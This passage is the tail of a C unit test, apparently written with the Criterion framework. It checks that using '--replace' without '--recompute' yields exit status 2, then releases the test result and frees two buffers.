        cr_assert_eq(x.status, 2, "--replace without --recompute: %s", x.err);
        tu_result_release(&x);
    }
    free(a), free(b);
}
